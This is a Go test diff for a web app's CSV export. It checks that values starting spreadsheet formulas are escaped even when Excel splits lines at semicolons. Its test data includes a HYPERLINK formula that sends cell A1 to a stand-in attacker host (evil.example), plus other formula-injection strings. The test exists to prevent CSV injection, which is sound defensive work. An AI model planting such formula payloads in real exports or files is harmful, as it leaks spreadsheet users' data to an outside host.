@@ -788,6 +788,37 @@ func TestExport_CSVFormulas(t *testing.T) {
 	}
 }
 
+// TestExport_CSVOtherSeparators: Excel set up for another list separator
+// (";" where the decimal mark is a comma) opens a comma-separated file one
+// line to a column and splits each line at ";" alone, so the commas and the
+// quotes of the CSV no longer say where a cell starts: after a ";", and on
+// each line of a text with line breaks, a new cell can start a formula. The
+// test reads the file that way, at its most naive (split every line at ";"
+// and at tabs, a quote opening a cell dropped), and no cell may start one.
+func TestExport_CSVOtherSeparators(t *testing.T) {
+	t.Parallel()
+	srv := newServer(t, newEnv(t), app.Config{})
+	alice := user(t, srv, "alice")
+	title := `Notes;=HYPERLINK("https://evil.example/?"&A1;"x")`
+	body := "milk\n- eggs\n=1+1;@SUM(1)\t+2;;-3"
+	alice.createItem(title, body)
+	r := alice.submit("/export", "/export", url.Values{"format": {"csv"}})
+	split := func(c rune) bool { return strings.ContainsRune(";\t\r\n", c) }
+	for _, cell := range strings.FieldsFunc(r.body, split) {
+		if cell = strings.TrimPrefix(cell, `"`); cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+			t.Errorf("read split at semicolons, a cell starts a formula: %q", cell)
+		}
+	}
+	// Read with commas, each cell is the text with an apostrophe before
+	// every such start.
+	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	wantTitle := `Notes;'=HYPERLINK("https://evil.example/?"&A1;"x")`
+	wantBody := "milk\n'- eggs\n'=1+1;'@SUM(1)\t'+2;;'-3"
+	if err != nil || len(rows) != 2 || rows[1][1] != wantTitle || rows[1][2] != wantBody {
+		t.Errorf("CSV export read with commas: %q, %v; want title %q and text %q", rows, err, wantTitle, wantBody)
+	}
+}
+
 // TestDeleteAccount deletes an account with items, shares both ways, an
 // allowlist and two sessions, then scans the whole data table: nothing of
 // the user is left, and the other user's data is intact.
